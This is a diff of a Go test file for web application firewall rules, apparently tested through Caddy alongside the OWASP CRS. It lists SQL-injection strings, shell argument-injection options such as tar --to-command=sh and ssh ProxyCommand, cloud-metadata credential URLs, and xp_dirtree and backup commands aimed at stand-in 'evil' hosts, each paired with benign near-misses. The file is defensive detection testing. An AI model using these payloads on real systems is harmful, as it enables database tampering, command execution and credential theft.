@@ -21,12 +21,17 @@ var attack78Attacks = []string{"position('a' in password)", "POSITION ( 'ab' IN 
 	"name desc exec sp_addsrvrolemember 'me','sysadmin'", "name desc delete from users", "name delete from users--",
 	"name asc insert into users values('me','admin')", "name desc update users set role=1",
 	`name desc backup database app to disk='\\evil.example\s\a.bak'`, "name truncate table audit_log",
-	"price create login x with password='P@ssw0rd!1'", "[name] delete from users", `"name" delete from users`, "name desc if 1=1 delete from users",
+	"price create login x with password='P@ssw0rd!1'", "name desc if 1=1 delete from users",
 	"name desc offset 0 rows fetch next 1 rows only delete from users", "asc exec sp_addsrvrolemember 'me','sysadmin'",
 	"null insert into users values('me','admin')", "null exec sp_addsrvrolemember 'me','sysadmin'", "null shutdown", "@@spid shutdown",
 	"id update users set role=1", "user_id drop table users", "null grant control to public", "null alter login sa enable",
-	`null restore database app from disk='\\evil\a'`, "(id) delete from users", "+id delete from users", "current_user delete from users",
+	`null restore database app from disk='\\evil\a'`, "+id delete from users", "current_user delete from users",
 	"sysdatetime() delete from users", "id) delete from users--", "@@spid) insert into users values(1)--", "name, price desc drop table users",
+	// a review: an operand's expression before the statement, EXEC of a
+	// name with an empty schema
+	"id*1 delete from users", "id+0 delete from users", "null or 1=1 delete from users", "id is null delete from users",
+	"id in (1) delete from users", "id between 1 and 2 delete from users", "name collate Latin1_General_CI_AS desc delete from users",
+	`x' exec [master]..[xp_dirtree] '\\evil\a`,
 	// kinds 210201 did not read
 	"x' receive top(1) * from dbo.q--", "x' waitfor (receive * from q)--", "x' receive conversation_handle, message_body from q--",
 	"x' add signature to dbo.p by certificate c--", "x' add counter signature to dbo.p by certificate c--",
@@ -36,7 +41,7 @@ var attack78Attacks = []string{"position('a' in password)", "POSITION ( 'ab' IN 
 
 // attack78CRS are refused by the CRS alone too.
 var attack78CRS = []string{"name,position('a' in password) desc", "x' exec xp_cmdshell 'whoami", "x' update users set a='",
-	"x' insert into t select password '"}
+	"x' insert into t select password '", `x' exec master..xp_dirtree '\\evil\a'--`}
 
 // attack78Benign are near-misses.
 var attack78Benign = []string{"position", "position desc, name", "sort by position('a' in b) for prose", "the position (x) of a point",
@@ -53,6 +58,10 @@ var attack78Benign = []string{"position", "position desc, name", "sort by positi
 	// one word before a statement that takes nothing, or with no SQL in it
 	"Server shutdown", "Please create user profiles", "Admins drop table reservations", "Students' receive mail from teachers -- daily",
 	"Parents' receive a letter from school -- ok", "Please 'add signature to the form' -- thanks",
+	// a review's: titles with a tag before a statement's words
+	"[WIP] Delete from favorites", "[Bug] Update user set to inactive after reset", "[UI] Drop table borders on mobile",
+	"[Mobile] Update profile set up flow", "(Draft) Update users set inactive after 90 days", "(Optional) Delete from favorites",
+	"Name (asc) delete from list", "User update profile set (name, email)", `"Admin" delete from group (bug)`,
 	// 210153's: a word and a statement's first word after a ;
 	"In Postgres you can do SELECT created_at::date FROM orders; to drop the time part", "Cast it to date; to drop the time part"}
 
@@ -74,7 +83,7 @@ func TestCPUBoundAttack78(t *testing.T) {
 	margin := time.Duration(cpuMargin)
 	for _, unit := range []string{"null delete from a ", "name, ", "'a' ", "/* ", "/* */ ", "x' delete from a where b ", "' exec a.b ", "' receive a, ",
 		"' add counter signature to a by ", "x' delete from a.[b] where c like ", " -c ", " --to-command=", " -o ", " 'x", " -I ", " -TT \"",
-		" -ossh ", " -c core.sshCommand=", "a > 'b', ", "not ", "not (", "geography::a(", "a like '", "169.254.169.254/", "a/"} {
+		" -ossh ", " -c core.sshCommand=", "a > 'b', ", "not ", "not (", "geography::a(", "a like '", "169.254.169.254/", "a/", "id*1 ", "a in (", "a between ", "a is null ", "(a) ", "a > $$", " -vI", " --to-c="} {
 		body := repeatedJSON(unit)
 		req, _ := http.NewRequest("POST", base+"/api/items", strings.NewReader(body))
 		req.Header.Set("Content-Type", "application/json")
@@ -89,17 +98,33 @@ var attack78Arguments = []string{"a.tar --to-command=sh", "a.tar --use-compress-
 	"a.tar --checkpoint=1 --checkpoint-action=exec=id", "a.tar --rsh-command=id", "a.zip -T -TT id", "a.zip -T --unzip-command=id",
 	"origin --upload-pack=id", "host -oProxyCommand=id", "host -o ProxyCommand=id", "main --exec=id", "x -c core.sshCommand=id",
 	"x;tar xf a.tar --to-command=id", "x&&tar xf a.tar --to-command=id",
-	"x|tar xf a.tar --to-command=id", "x;tar xf a.tar --to-command=perl", "x\n-c core.sshCommand=id"}
+	"x|tar xf a.tar --to-command=id", "x;tar xf a.tar --to-command=perl", "x\n-c core.sshCommand=id",
+	// a review: abbreviations, bundles, ssh's blank
+	"a.tar --to-comm=sh", "a.tar --checkpoint=1 --checkpoint-act=exec=id", "a.tar --use-compress-prog=id", "origin --upload-pa=id",
+	"x; tar -xf a.tar --to-comm=sh", "a.tar -vIid", "a.tar -xvI id", "host -o 'ProxyCommand id'"}
 
 // attack78ArgumentsBenign are everyday command lines and how-tos.
 var attack78ArgumentsBenign = []string{"Use tar --to-command=cat to print each file", "gcc -I include -o app main.c", `bash -c "python x.py"`,
 	"git -c core.editor=vim commit", "tar -czf backup.tar.gz --exclude=node_modules .", "find . -name '*.go' -exec gofmt -l {} +",
 	"zip -r site.zip public -x '*.map'", "git rebase -i --exec 'npm test' main", "add -o ServerAliveInterval=30 to the config",
-	"man -P less ls", "tar -I zstd -xf a.tar.zst", "git clone --depth 1 origin"}
+	"man -P less ls", "tar -I zstd -xf a.tar.zst", "git clone --depth 1 origin",
+	// a review's: everyday short options of other tools, paths, a proxy
+	"please run curl -I 'https://example.com/search?q=a&page=2'", "then curl -F 'file=@photo.jpg;type=image/jpeg' https://api.example.com/upload",
+	"add -o ProxyCommand='nc -X 5 -x proxy:1080 %h %p' to it", "use -P 'foo|bar' for alternation", "use -x 'yes|no' for whole lines"}
 
 // TestArgumentOptions: rule 210204 and 210193 refuse attack78Arguments
 // through a real Caddy, and none of attack78ArgumentsBenign.
 func TestArgumentOptions(t *testing.T) {
+	// what the CRS alone refuses (so not through Caddy), the operator
+	// passes: a path, a pipe as a field separator (a review)
+	for _, v := range []string{"git clone --upload-pack=/opt/git/bin/git-upload-pack me@host:repo.git",
+		"tar -cf backup.tar --checkpoint=1000 --checkpoint-action=exec=/usr/local/bin/progress.sh /data", "awk -F'|' '{print $2}' data.txt",
+		"grep -P 'foo|bar' app.log", "grep -r -I 'TODO|FIXME' src", "psql -A -F '|' -c 'select * from t'",
+		"ssh -o ProxyCommand='nc -X 5 -x proxy:1080 %h %p' host"} {
+		if argumentOptions(v) {
+			t.Errorf("210204 matches the benign %q", v)
+		}
+	}
 	operatorTable(t, "210204/210193", func(v string) bool { return argumentOptions(v) || shellPrefixed(v) }, attack78Arguments,
 		[]string{"a.tar --to-command 'sh -c id'", "a.tar -F /tmp/x --info-script=bash"}, attack78ArgumentsBenign)
 }
@@ -112,12 +137,14 @@ var attack78Metadata = []string{"169.254.169.254/latest/meta-data/iam/security-c
 	"169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01", "2852039166/latest/meta-data/", "0xa9fea9fe/latest/meta-data/",
 	"169.254.170.2/v2/credentials/x", "metadata/computeMetadata/v1/", "169.254.169.254:80/latest/", "see 169.254.169.254/latest/user-data",
 	`169.254.169.254\latest\meta-data`, "169.254.169.254/2009-04-04/meta-data/", "metadata.google.internal./computeMetadata/v1/",
-	`\\169.254.169.254\latest\meta-data\`}
+	`\\169.254.169.254\latest\meta-data\`, "2852039166/./latest/meta-data/iam/", "169.254.169.254/./latest/", "instance-data/latest/meta-data/",
+	"rancher-metadata/2015-12-19/self/host", "metadata:80/computeMetadata/v1/"}
 
 // attack78MetadataBenign are addresses and paths near them.
 var attack78MetadataBenign = []string{"The link-local range is 169.254.0.0/16 on every host", "metadata/v1/items", "see 10.0.0.1/api",
 	"192.168.1.1/admin", "/orders/2852039166/items", "169.254.1.1/setup", "Set the metadata/ folder aside", "169.254.169.254 is AWS's metadata address",
-	`\\169.254.169.254\share`}
+	`\\169.254.169.254\share`, "/rancher/rancher-metadata/tree/master", "https://github.com/rancher/rancher-metadata/blob/master/README.md",
+	"/api/projects/42/instance-data/export"}
 
 // TestSchemelessMetadata: rule 210205 refuses attack78Metadata in the
 // query, JSON and a request's path through a real Caddy, and none of
@@ -126,10 +153,11 @@ func TestSchemelessMetadata(t *testing.T) {
 	lower := func(v string) bool { return schemelessMetadata(strings.ToLower(v)) }
 	operatorTable(t, "210205", lower, attack78Metadata, nil, attack78MetadataBenign)
 	var misses, passes []probe
-	for _, p := range []string{"/proxy/169.254.169.254/latest/meta-data/iam/", "/unsafe/300x200/metadata.google.internal/computeMetadata/v1/instance/"} {
+	for _, p := range []string{"/proxy/169.254.169.254/latest/meta-data/iam/", "/unsafe/300x200/metadata.google.internal/computeMetadata/v1/instance/",
+		"/proxy/http:169.254.169.254/latest/meta-data/", "/proxy/2852039166/./latest/meta-data/"} {
 		misses = append(misses, probe{name: "path " + p, method: "GET", path: p})
 	}
-	for _, p := range []string{"/orders/2852039166/items", "/docs/169.254.0.0/16"} {
+	for _, p := range []string{"/orders/2852039166/items", "/docs/169.254.0.0/16", "/rancher/rancher-metadata/tree/master"} {
 		passes = append(passes, probe{name: "path " + p, method: "GET", path: p})
 	}
 	runBeyondTheCRS(t, nil, misses, passes)
@@ -173,11 +201,16 @@ func TestAtonAddr(t *testing.T) {
 var attack78Sorts = []string{"not password like 'pw1%'", "not password ~ '^a'", "not password ilike 'a%'", "not password > 'm'",
 	"not password similar to 'a%'", "not password glob 'a*'", "name desc, not password ~ '^a'", "desc,not password like 'a%'",
 	"password ^@ 'pw1'", "regexp_like(password,'^pw1')", "nchar(password)", "dateadd(day,password,0)", "cast(password as hierarchyid)",
-	"geography::Parse(password)", "geometry::STGeomFromText(password,0)", "hierarchyid::Parse(password) desc", "name desc, password ~ '^a'"}
+	"geography::Parse(password)", "geometry::STGeomFromText(password,0)", "hierarchyid::Parse(password) desc",
+	// a review: PostgreSQL's other strings and ordering operators
+	"password > e'm'", "password > $$m$$", "password >= $t$m$t$", "password > U&'m'", "password ~>~ 'm'", "password ~<=~ 'm'",
+	"password @@ 'pw1'", "password is distinct from 'x'", "name, password is not distinct from 'x'", "name desc, password ~ '^a'"}
 
 // attack78SortsBenign are sort values and prose near them.
 var attack78SortsBenign = []string{"Looks like 'magic'", "not like 'this'", "Not quite 'there'", "name = 'Bob'", "not name", "name desc, price",
-	"geography desc", "geometry, name"}
+	"geography desc", "geometry, name",
+	// a review's: equality (a filter's), a number's functions of numbers
+	"name desc, status != 'Done'", "dateadd(day, 1, created_at)", "geometry::Point(1, 2, 4326)", "datefromparts(year, month, 1)"}
 
 // TestAttack78Sorts: rule 210202 refuses attack78Sorts through a real
 // Caddy, and none of attack78SortsBenign.
